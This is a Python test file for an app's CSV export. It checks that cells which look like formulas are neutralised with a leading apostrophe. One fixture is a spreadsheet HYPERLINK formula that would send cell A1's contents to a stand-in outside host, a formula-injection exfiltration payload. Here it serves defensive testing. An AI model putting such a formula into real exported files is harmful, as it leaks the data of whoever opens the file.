"""Tables that leave the app, opened by a spreadsheet, are text and numbers and no formulas.

Oracle: the first character of every cell, read back with :mod:`csv`.
"""

import csv
import io
from collections.abc import Callable
from typing import Any

import pandas as pd
import pytest
import streamlit as st

from app import CONFIG, DATA
from app.export.tables import csv as as_csv
from tests.app.web.screens.conftest import Opener
from tests.folders import Folder

LINK = '=HYPERLINK("http://x.example/?"&A1,"Alpha")'
PHONE = "+1-800-BETA"
LABEL = "@SUM(1)"


def test_text_gets_an_apostrophe_and_numbers_stay() -> None:
    table = pd.DataFrame(
        {"Name": [LINK, PHONE, "Alpha"], "Points": [-1.5, None, 2.0], "-x": ["-", "", None]}
    )
    assert rows(as_csv(table)) == [
        ["Name", "Points", "'-x"],
        [f"'{LINK}", "-1.5", "'-"],
        [f"'{PHONE}", "", ""],
        ["Alpha", "2.0", ""],
    ]


@pytest.mark.parametrize("screen", ["overview", "evidence", "criteria", "ranking", "what_if"])
def test_no_cell_of_any_table_is_a_formula(
    screen: str, opened: Opener, folder: Folder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names, sources and labels that look like formulas, on every page that hands out tables."""
    monkeypatch.setenv(DATA, str(folder.root / "dataset"))
    monkeypatch.setenv(CONFIG, str(folder.root / "configuration"))
    folder.replace("candidates.csv", ",Alphaland,", ',"' + LINK.replace('"', '""') + '",')
    folder.replace("candidates.csv", ",Betaland,", f",{PHONE},")
    folder.replace("criteria.yaml", "label: Civil society takes part", f'label: "{LABEL}"')
    given: dict[str, Callable[[], bytes] | bytes | str] = {}

    def kept(_label: str, data: Any, file_name: str, **_: object) -> bool:
        given[file_name] = data
        return False

    monkeypatch.setattr(st, "download_button", kept)
    opened(screen)
    tables = [
        rows(data() if callable(data) else data)
        for name, data in given.items()
        if name.endswith(".csv")
    ]
    assert tables
    cells = [cell for table in tables for row in table for cell in row]
    assert {f"'{LINK}", f"'{PHONE}", f"'{LABEL}"}.intersection(cells)
    assert not [
        cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and not number(cell)
    ]


def rows(content: bytes | str) -> list[list[str]]:
    text = content if isinstance(content, str) else content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def number(cell: str) -> bool:
    """Say whether a cell is a plain number."""
    try:
        float(cell)
    except ValueError:
        return False
    return True
